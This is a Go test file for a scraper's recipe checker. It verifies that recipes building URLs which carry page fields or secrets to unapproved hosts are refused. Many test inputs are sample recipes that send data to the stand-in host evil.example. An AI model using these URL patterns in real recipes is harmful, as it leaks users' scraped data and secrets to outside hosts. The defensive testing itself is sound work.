package scrape

import (
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/poscrape/poscrape/internal/testkit"
	"github.com/poscrape/poscrape/tasks"
)

// TestAddressesMadeElsewhere refuses recipes whose text shows that they put what pages say into addresses that are
// neither on the portal's site nor named beside it.
func TestAddressesMadeElsewhere(t *testing.T) {
	t.Parallel()
	const base, note = "base_url: https://portal.acme.example\nallowed_hosts: ['files.acme.example', 'evil.example', 'api.example']\n", "fields:\n  note: {selector: '#n'}\n"
	const goes = "what pages and answers say goes only to https://portal.acme.example; if https://evil.example is to have it too, write: to: [evil.example]"
	for text, want := range map[string]string{
		note + "attachments: {url: 'https://evil.example/{note}.pdf'}":                                                                          "r.yaml:5: fields.note: it makes \"https://evil.example/{note}.pdf\", and " + goes,
		note + "attachments: {url: 'https://evil.example/{po}.pdf'}":                                                                            "",
		note + "attachments: {url: '{base_url}/{note}.pdf'}":                                                                                    "",
		note + "attachments: {url: '/{note}.pdf'}":                                                                                              "",
		note + "attachments: {url: 'https://files.acme.example/{note}.pdf'}":                                                                    "",
		note + "attachments: {url: 'http://files.acme.example/{note}.pdf'}":                                                                     `fields.note: it makes "http://files.acme.example/{note}.pdf"`,
		"fields:\n  note: {selector: '#n', to: [evil.example]}\nattachments: {url: 'https://evil.example/{note}.pdf'}":                          "",
		note + "  a: {get: 'https://evil.example/{note}', path: $.a}":                                                                           "fields.note",
		note + "  a: {post: 'https://evil.example/{po}', body: {n: '{note}'}, path: $.a}":                                                       "fields.note",
		"fields:\n  id: {get: 'https://api.example/{po}', path: $.id}\n  a: {get: 'https://api.example/more/{id}', path: $.a}":                  "",
		note + "related: [{url: 'https://evil.example/{note}', attachments: {item: a}}]":                                                        "fields.note",
		"attachments: {item: tr, link: {attr: data-id, url: 'https://evil.example/{value}'}}":                                                   "r.yaml:4: attachments.link: it makes \"https://evil.example/{value}\", and " + goes,
		"attachments: {item: tr, link: {attr: data-id, url: 'https://evil.example/{value}', to: [evil.example]}}":                               "",
		"attachments: {item: tr, link: {attr: data-id, url: '{value}'}}":                                                                        "",
		"attachments: {json: {get: '/api/{po}', items: $, link: 'https://evil.example/{$.id}'}}":                                                "r.yaml:4: attachments.json: ",
		"attachments: {json: {get: '/api/{po}', items: $, link: 'https://evil.example/{$.id}', to: [evil.example]}}":                            "",
		"attachments: {json: {get: '/api/{po}', items: $, link: $.url}}":                                                                        "",
		"attachments: {json: {get: 'https://api.example/{po}', items: $, link: 'https://api.example/{$.id}'}}":                                  "",
		"related: [{json: {get: '/api/{po}', items: $, link: 'https://evil.example/{$.id}'}, attachments: {item: a}}]":                          "r.yaml:4: related[0].json: ",
		"related: [{link: a, attachments: {item: a, link: {attr: data-id, url: 'https://evil.example/{value}'}}}]":                              "r.yaml:4: related[0].attachments.link: ",
		"list: {get: /api/orders, items: $.all, number: $.no, next: 'https://evil.example/?after={$.cursor}'}\nopen: {url: '{base_url}/'}":      "r.yaml:4: list: ",
		"open: {url: '{base_url}/{po}', steps: [{go: {selector: iframe, attr: src, match: 's=(.*)', url: 'https://evil.example/?{1}'}}]}":       "r.yaml:4: open.steps[0].go: ",
		"open: {url: '{base_url}/{po}', steps: [{go: {selector: iframe, attr: src, url: 'https://evil.example/{value}', to: [evil.example]}}]}": "",
	} {
		recipe, err := ReadRecipe("r.yaml", strings.NewReader("version: 1\n"+base+text+"\n"))
		if err != nil {
			t.Errorf("%s: %v", text, err)
			continue
		}
		err = recipe.CheckSecrets()
		if want == "" && err != nil || want != "" && (err == nil || !strings.Contains(err.Error(), want)) {
			t.Errorf("%s: %v, want %s", text, err, want)
		}
		if made := recipe.Takes().Made; strings.Contains(text, "to: [evil.example]") && !strings.Contains(strings.Join(made, " "), "https://evil.example") {
			t.Errorf("%s: says that it makes addresses at %q", text, made)
		}
	}
}

// Recipes of the documentation, and those that tests read, make no address that needs a word.
func TestHonestRecipesMakeAddresses(t *testing.T) {
	t.Parallel()
	for _, pattern := range []string{"../docs/recipes/*.yaml", "../testdata/recipes/good-*.yaml", "../testdata/recipes/demo.yaml"} {
		files, err := filepath.Glob(pattern)
		testkit.Must(t, err)
		if len(files) == 0 {
			t.Errorf("no recipe is %s", pattern)
		}
		for _, file := range files {
			text, err := os.ReadFile(file)
			testkit.Must(t, err)
			recipe, err := ReadRecipe(file, strings.NewReader(string(text)))
			testkit.Must(t, err)
			if err := recipe.checkOrigins(); err != nil {
				t.Error(err)
			}
		}
	}
}

// Where only the order says what its portal is, or only a page where an address begins, it is looked at then.
func TestAddressesMadeOfAPage(t *testing.T) {
	t.Parallel()
	order, err := url.Parse("https://portal.acme.example/orders/1")
	testkit.Must(t, err)
	recipe := AutoRecipe()
	recipe.Fields = []FieldRule{{Name: "note"}, {Name: "named", To: []string{"evil.example"}}}
	a := &attempt{Scraper: &Scraper{portal: NewPortal(recipe, nil)}, address: order, task: &tasks.ProcessingTask{}}
	p := &page{URL: "https://portal.acme.example/orders/1", Fields: map[string]string{"note": "n", "named": "n"}}
	for what, c := range map[string]struct {
		link  LinkRule
		value string
		may   bool
	}{
		"the page's own link":         {LinkRule{}, "https://evil.example/d.pdf", true},
		"that in other words":         {LinkRule{Match: regexp.MustCompile(`^([^?]+)\?(.+)$`), URL: "{1}.pdf?{+2}"}, "https://evil.example/d?id=1", true},
		"an attribute":                {LinkRule{Attr: "data-url"}, "https://evil.example/d.pdf", true},
		"put together of a text":      {LinkRule{Attr: "text", Match: regexp.MustCompile(`(\S+) (\S+)`), URL: "{1}?{2}"}, "https://evil.example/d token", false},
		"the portal's":                {LinkRule{Attr: "data-id", URL: "/d/{value}"}, "1", true},
		"elsewhere":                   {LinkRule{Attr: "data-id", URL: "https://evil.example/d/{value}"}, "1", false},
		"elsewhere, of a field":       {LinkRule{URL: "{value}?{note}"}, "https://evil.example/d", false},
		"elsewhere, of a named field": {LinkRule{URL: "{value}?{named}"}, "https://evil.example/d", true},
		"on its site":                 {LinkRule{Attr: "data-id", URL: "https://files.acme.example/d/{value}"}, "1", true},
		"elsewhere, and named":        {LinkRule{Attr: "data-id", URL: "https://evil.example/d/{value}", To: []string{"evil.example"}}, "1", true},
	} {
		address, why := a.addressOf(p, &c.link, &item{Source: p.URL, Value: c.value})
		if c.may != (why == "") || c.may && address == "" || !c.may && !strings.Contains(why, "write: to: [evil.example]") {
			t.Errorf("%s: %q, %s", what, address, why)
		}
	}
	a.portal.veil = func() *veil { return newVeil([]secretText{{"hunter2-horse", true}}) }
	for value, may := range map[string]bool{"https://evil.example/d?hunter2%2Dhorse": false, "https://evil.example/d": true, "https://files.acme.example/d?hunter2-horse": true} {
		if _, why := a.addressOf(p, &LinkRule{Attr: "data-url"}, &item{Source: p.URL, Value: value}); may != (why == "") {
			t.Errorf("%s: %s", value, why)
		}
	}
	link, err := ParseDataLink("https://evil.example/{$.id}")
	testkit.Must(t, err)
	it := &item{URL: "https://evil.example/1", from: "https://portal.acme.example/api"}
	if why := a.linkWithheld(p, "attachments.json", &DataItems{Link: link}, it); !strings.Contains(why, "attachments.json") {
		t.Errorf("in data: %q", why)
	}
	if why := a.nextWithheld(&ListData{Next: link}, it.from, it.URL); why == "" {
		t.Error("the next page of a list is elsewhere")
	}
	if why := a.nextWithheld(&ListData{Next: link}, "https://evil.example/0", it.URL); why != "" {
		t.Errorf("the next page of a list that is there: %s", why)
	}
}

func TestSites(t *testing.T) {
	t.Parallel()
	for pair, same := range map[string]bool{
		"https://portal.acme.example https://files.acme.example:8443/x": true, "https://portal.acme.example https://acme.example/": true,
		"http://portal.acme.example https://portal.acme.example/": true, "https://portal.acme.example http://portal.acme.example/": false,
		"https://acme.github.io https://evil.github.io/": false, "https://acme.s3.amazonaws.com https://evil.s3.amazonaws.com/": false,
		"https://acme.co.uk https://evil.co.uk/": false, "https://portal.acme.example https://acme.example.evil.example/": false,
		"http://127.0.0.1:1 http://127.0.0.1:2/": true, "http://127.0.0.1:1 http://127.0.0.2:1/": false, "http://127.0.0.1:1 http://localhost:1/": false,
		"http://portal http://files/": false, "https://portal.acme.example data:text/plain,x": false, "https://portal.acme.example /x": false,
	} {
		origin, address, _ := strings.Cut(pair, " ")
		if got := sameSite(origin, address); got != same {
			t.Errorf("%s: %v", pair, got)
		}
	}
}
